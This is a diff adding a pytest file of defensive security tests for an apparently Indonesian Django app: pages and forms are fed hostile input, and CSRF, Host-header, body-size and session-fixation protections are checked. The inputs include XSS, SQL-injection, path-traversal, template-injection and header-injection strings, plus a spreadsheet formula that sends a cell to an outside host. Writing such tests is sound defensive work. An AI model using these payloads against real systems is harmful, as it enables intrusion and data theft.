@@ -1,0 +1,159 @@
+"""Every address and every form of the table of doors, filled with nonsense: an answer below 500, nothing run, nothing read.
+
+The list of hostile inputs and where each is tried stands in SECURITY.md; here stands what is true of every page alike.
+"""
+
+import re
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from gugus_tugas.tests.test_access_matrix import ROWS, _no_rendering, objects
+
+__all__ = ["_no_rendering", "objects"]
+
+LIVE = "<script>alert(7)</script>"
+NONSENSE = {
+    "nul": "\x00a",
+    "huge number": "9" * 40,
+    "negative": "-1",
+    "not a number": "NaN",
+    "wide digits": "１２",
+    "long": "a" * 20_000,
+    "list": ["a", "b"],
+    "disguised": "\u202efdp.exe\u200b",
+    "first day": "1/1/0001",
+    "last day": "31/12/9999",
+    "no day": "30/02/2025",
+    "american": "12/31/2025",
+    "formula": '=HYPERLINK("http://x/?"&A1,"klik")',
+    "path": "../../etc/passwd",
+    "template": "{{7*7}}{% debug %}",
+    "script": LIVE,
+    "attribute": '"><svg onload=alert(7)>',
+    "sql": "' OR 1=1;--",
+    "lines": "a\r\nSet-Cookie: x=y\n2026-01-01 kepala masuk",
+}
+ASKED = ("nul", "huge number", "negative", "long", "list", "script", "sql", "lines")  # of an address; a form gets all
+NAMES = ("hal", "q", "tahun", "status", "urut", "keadaan", "pada", "next", "edisi", "pk", "pengguna")
+
+
+def rows(method: str):
+    """(address name, object, role) of what somebody may open (GET) or send (POST)."""
+    for verb, url, obj, _, _, kepala, _, _, _, pengelola in ROWS:
+        role = "kepala" if kepala in {"200", "302", "422"} else "pengelola" if pengelola in {"200", "302"} else ""
+        if verb == method and role:
+            yield pytest.param(url, obj, role, id=url)
+
+
+def fields_of(html: str) -> set[str]:
+    return set(re.findall(r'\bname="([^"]+)"', html)) - {"csrfmiddlewaretoken", "viewport", "color-scheme"}
+
+
+def assert_tame(answer, name: str) -> None:
+    assert answer.status_code < 500, name
+    assert "Set-Cookie: x" not in str(answer.headers), name
+    if answer.headers["Content-Type"].startswith("text/html"):
+        html = answer.content.decode()
+        assert LIVE not in html, name
+        assert "<svg onload" not in html, name
+        assert "{{7*7}}" in html or "49{" not in html, name
+
+
+@pytest.mark.usefixtures("_no_rendering")
+@pytest.mark.parametrize(("url", "obj", "role"), list(rows("GET")))
+def test_page_asked_with_nonsense_answers(url, obj, role, cast, objects, client_of):
+    browser, address = client_of(cast[role]), reverse(url, kwargs=objects(obj))
+    page = browser.get(address)
+    names = {
+        *NAMES,
+        *(fields_of(page.content.decode()) if page.headers["Content-Type"].startswith("text/html") else ()),
+    }
+    for word in ASKED:
+        assert_tame(browser.get(address, dict.fromkeys(names, NONSENSE[word])), word)
+
+
+@pytest.mark.usefixtures("_no_rendering")
+@pytest.mark.parametrize(("url", "obj", "role"), list(rows("POST")))
+def test_form_filled_with_nonsense_answers(url, obj, role, cast, objects, client_of):
+    browser, address = client_of(cast[role]), reverse(url, kwargs=objects(obj))
+    page = browser.get(address)
+    names = fields_of(page.content.decode()) if page.status_code == 200 else set()
+    for word, value in NONSENSE.items():
+        assert_tame(browser.post(address, dict.fromkeys({*names, "pk"}, value)), word)
+    surrogate = "&".join(f"{name}=%ED%A0%80" for name in names)
+    form = "application/x-www-form-urlencoded"
+    assert_tame(browser.post(address, surrogate, content_type=form), "lone surrogate")
+    assert_tame(browser.post(address, b"\xff\xfe=\x00&&&==", content_type=form), "bytes")
+    assert_tame(browser.post(address, b"{}", content_type="application/json"), "json")
+    assert_tame(browser.post(address, b"--x", content_type="multipart/form-data; boundary=x"), "cut multipart")
+
+
+@pytest.mark.parametrize(("method", "url", "obj"), [(m, u, o) for m, u, o, *_ in ROWS if m == "POST"])
+def test_no_form_is_taken_without_the_token_of_this_browser(method, url, obj, cast, objects):
+    """Row 22: no token, another person's token, a foreign origin; every address, as the person with the most rights."""
+    address, other = reverse(url, kwargs=objects(obj)), Client()
+    other.get("/masuk/")
+    stolen = other.cookies["csrf"].value
+    browser = Client(enforce_csrf_checks=True)
+    browser.force_login(cast["kepala"])
+    for data, headers in (
+        ({}, {}),
+        ({"csrfmiddlewaretoken": stolen}, {}),
+        ({"csrfmiddlewaretoken": stolen}, {"Origin": "https://evil.example", "Cookie": ""}),
+    ):
+        assert browser.post(address, data, headers=headers).status_code == 403
+
+
+@pytest.mark.parametrize(
+    "host", ["evil.example", "testserver@evil.example", "testserver.evil.example", "127.0.0.1:80/x", ""]
+)
+def test_foreign_host_is_refused(host, db):
+    """Row 24; two Host lines never come so far, the server refuses them."""
+    assert Client().get("/masuk/", headers={"Host": host}).status_code == 400
+
+
+def test_forwarded_host_is_not_believed(db):
+    answer = Client().get("/masuk/", headers={"X-Forwarded-Host": "evil.example", "X-Forwarded-Server": "evil.example"})
+    assert "evil" not in answer.content.decode() + str(answer.headers)
+
+
+def test_body_that_is_too_large_is_refused(client_of, kepala, settings):
+    """Row 9: more than the limit of a form; files have their own (test_files.py)."""
+    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
+    answer = client_of(kepala).post("/anggota/sk/catat/", {"tentang": "a" * 2000})
+    assert answer.status_code == 400
+    assert "tidak dapat dibaca" in answer.content.decode()
+
+
+def test_ten_thousand_fields_are_refused(client_of, kepala):
+    body = "&".join(f"f{n}=1" for n in range(10_000))
+    form = "application/x-www-form-urlencoded"
+    assert client_of(kepala).post("/anggota/sk/catat/", body, content_type=form).status_code == 400
+
+
+@pytest.mark.parametrize("key", ["sesi-pilihan-penyerang-0123456789", "", "\x00", "a" * 5000, "../../etc/passwd"])
+def test_session_chosen_by_a_stranger_is_not_taken_over(key, db, sekretariat):
+    """Row 25."""
+    sekretariat.set_password("sandi-uji-yang-panjang")
+    sekretariat.save()
+    browser = Client()
+    browser.cookies["sesi"] = key
+    browser.post("/masuk/", {"username": "sekretariat", "password": "sandi-uji-yang-panjang"})
+    assert browser.cookies["sesi"].value != key
+    stranger = Client()
+    stranger.cookies["sesi"] = key
+    assert stranger.get("/kasus/").status_code == 302
+
+
+def test_edited_or_stolen_cookie_after_logout_opens_nothing(client_of, sekretariat):
+    browser = client_of(sekretariat)
+    key = browser.cookies["sesi"].value
+    for cookie in (key[:-1], key.upper(), f"{key}x"):
+        thief = Client()
+        thief.cookies["sesi"] = cookie
+        assert thief.get("/kasus/").status_code == 302
+    browser.post("/keluar/")
+    thief.cookies["sesi"] = key
+    assert thief.get("/kasus/").status_code == 302
